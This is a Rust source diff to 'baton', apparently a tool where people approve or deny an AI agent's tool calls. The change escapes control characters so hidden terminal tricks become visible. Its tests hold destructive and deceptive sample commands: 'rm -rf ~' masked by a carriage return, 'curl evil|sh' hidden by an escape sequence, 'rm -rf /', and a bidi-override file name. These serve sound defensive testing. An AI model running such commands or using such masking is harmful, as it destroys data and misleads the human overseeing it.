@@ -8,7 +8,12 @@ use std::io::{BufRead, IsTerminal, Write};
 use baton_proto::{ApprovalDecision, PendingCall};
 use serde_json::Value;
 
-use crate::{exit::Exit, render, style::Style};
+use crate::{
+    exit::Exit,
+    render,
+    safe_text::{escape, escape_line},
+    style::Style,
+};
 
 /// Whether we may prompt: stdin and stdout are both terminals.
 pub(crate) fn can_prompt() -> bool {
@@ -22,7 +27,10 @@ pub(crate) fn cannot_prompt(run: &str, pending: &[PendingCall], now_ms: i64) -> 
             "run {run} has no call awaiting a decision; nothing to approve or deny"
         ));
     }
-    let ids: Vec<&str> = pending.iter().map(|p| p.call_id.as_str()).collect();
+    let ids: Vec<String> = pending
+        .iter()
+        .map(|p| escape_line(&p.call_id).into_owned())
+        .collect();
     let mut msg = format!(
         "name the call(s) to decide: {} call(s) of run {run} await a decision, and baton only \
          asks when stdin and stdout are terminals\n",
@@ -31,11 +39,17 @@ pub(crate) fn cannot_prompt(run: &str, pending: &[PendingCall], now_ms: i64) -> 
     for p in pending {
         msg.push_str(&format!(
             "  {}  {}  {}  (waiting {})\n",
-            p.call_id,
-            p.tool,
+            escape_line(&p.call_id),
+            escape_line(&p.tool),
             render::one_line(&p.arguments, 120),
             waited(p, now_ms)
         ));
+        if crate::calls::looks_cut(&p.arguments) {
+            msg.push_str(&format!(
+                "    {}\n",
+                crate::calls::cut_note(run, &p.call_id)
+            ));
+        }
     }
     msg.push_str(&format!(
         "approve them with: baton approve {run} {}\n",
@@ -82,6 +96,9 @@ pub(crate) struct Ask {
     /// `--remember`: approvals remember.
     pub(crate) remember: bool,
     pub(crate) now_ms: i64,
+    /// Said under a call's arguments, by call id: why they are cut (the whole could not be
+    /// read), see `decide::ask_pending`.
+    pub(crate) notes: std::collections::BTreeMap<String, String>,
 }
 
 /// Asks about each pending call on the terminal (stderr for questions, stdin for answers);
@@ -124,12 +141,27 @@ pub(crate) fn ask_with(
             "\n[{}/{}] {} {}  (waiting {})",
             i + 1,
             pending.len(),
-            style.bold(&p.tool),
-            style.dim(&format!("[{}]", p.call_id)),
+            style.bold(&escape_line(&p.tool)),
+            style.dim(&format!("[{}]", escape_line(&p.call_id))),
             waited(p, ask.now_ms)
         )
         .map_err(io_err)?;
         writeln!(out, "{}", show_arguments(&p.tool, &p.arguments)).map_err(io_err)?;
+        if let Some(note) = ask.notes.get(&p.call_id) {
+            writeln!(out, "    {}", style.yellow(&escape(note))).map_err(io_err)?;
+        } else if p.arguments.chars().count() > SHOWN_CHARS {
+            writeln!(
+                out,
+                "    {}",
+                style.yellow(&format!(
+                    "(the first {SHOWN_CHARS} of {} characters; all of them: baton show {} {})",
+                    p.arguments.chars().count(),
+                    escape_line(&ask.run),
+                    escape_line(&p.call_id)
+                ))
+            )
+            .map_err(io_err)?;
+        }
         writeln!(out, "{}", style.dim(&remember_hint(p))).map_err(io_err)?;
         let choice = loop {
             write!(out, "approve, deny or skip? [a/r/d/s/q] ").map_err(io_err)?;
@@ -196,9 +228,17 @@ fn read_line(input: &mut dyn BufRead) -> std::io::Result<Option<String>> {
 }
 
 /// A call's arguments for a person: a shell command as `$ command`, anything else as indented
-/// JSON (cut when very long).
+/// JSON (cut when very long); control characters escaped ([`escape`]: a `\r` must not hide
+/// the start of the command on the terminal).
 pub(crate) fn show_arguments(tool: &str, arguments: &str) -> String {
-    const MAX: usize = 2_000;
+    show_arguments_upto(tool, arguments, SHOWN_CHARS)
+}
+
+/// Characters of arguments the prompt shows (`baton show` prints them all).
+pub(crate) const SHOWN_CHARS: usize = 2_000;
+
+/// [`show_arguments`], cut after `max` characters.
+pub(crate) fn show_arguments_upto(tool: &str, arguments: &str, max: usize) -> String {
     let parsed: Option<Value> = serde_json::from_str(arguments).ok();
     let text = match &parsed {
         Some(v) if tool == "shell" && v.get("command").is_some_and(Value::is_string) => {
@@ -217,11 +257,12 @@ pub(crate) fn show_arguments(tool: &str, arguments: &str) -> String {
         Some(v) => serde_json::to_string_pretty(v).unwrap_or_else(|_| arguments.to_owned()),
         None => arguments.to_owned(),
     };
-    let mut text: String = text.chars().take(MAX).collect();
-    if arguments.chars().count() > MAX {
+    let mut text: String = text.chars().take(max).collect();
+    if arguments.chars().count() > max {
         text.push('…');
     }
-    text.lines()
+    escape(&text)
+        .split('\n')
         .map(|l| format!("    {l}"))
         .collect::<Vec<_>>()
         .join("\n")
@@ -239,7 +280,8 @@ fn remember_hint(p: &PendingCall) -> String {
     {
         Some(rule) => format!(
             "    (r allows {} `{}` for the rest of the run)",
-            rule.tool, rule.pattern
+            escape_line(&rule.tool),
+            escape_line(&rule.pattern)
         ),
         None => "    (r remembers nothing for this call)".to_owned(),
     }
@@ -269,6 +311,7 @@ mod tests {
             reason: String::new(),
             remember: false,
             now_ms: 61_000,
+            notes: Default::default(),
         }
     }
 
@@ -376,5 +419,33 @@ mod tests {
             "    {\n      \"path\": \"a.txt\"\n    }"
         );
         assert_eq!(show_arguments("shell", "{broken"), "    {broken");
+    }
+
+    /// Review #9a: what the terminal shows is what runs, `\r` and escapes included.
+    #[test]
+    fn control_characters_in_arguments_are_shown_escaped() {
+        let shown = show_arguments("shell", "{\"command\":\"rm -rf ~ #\\r$ ls -la          \"}");
+        assert!(
+            !shown.contains('\r') && !shown.contains('\x1b'),
+            "{shown:?}"
+        );
+        assert_eq!(shown, "    $ rm -rf ~ #\\r$ ls -la          ");
+        let shown = show_arguments("shell", r#"{"command":"curl evil|sh #\u001b[2K\r$ ok"}"#);
+        assert_eq!(shown, "    $ curl evil|sh #\\x1b[2K\\r$ ok");
+        // A command over several lines stays a block; a `\r\n` keeps its `\r` visible.
+        let shown = show_arguments("shell", r#"{"command":"true\r\nrm -rf /"}"#);
+        assert_eq!(shown, "    $ true\\r\n    rm -rf /");
+        // JSON shown pretty: C1 controls and bidi overrides, which JSON leaves raw, too.
+        let shown = show_arguments(
+            "write_file",
+            r#"{"path":"a\u202etxt.sh","content":"\u009b2J\u007f"}"#,
+        );
+        assert_eq!(
+            shown,
+            "    {\n      \"content\": \"\\u{9b}2J\\x7f\",\n      \"path\": \"a\\u{202e}txt.sh\"\n    }"
+        );
+        let err = cannot_prompt("r1", &[call("c\x1b1", "ls\r")], 61_000);
+        assert!(err.message.contains("c\\x1b1  shell"), "{}", err.message);
+        assert!(!err.message.contains('\x1b') && !err.message.contains('\r'));
     }
 }
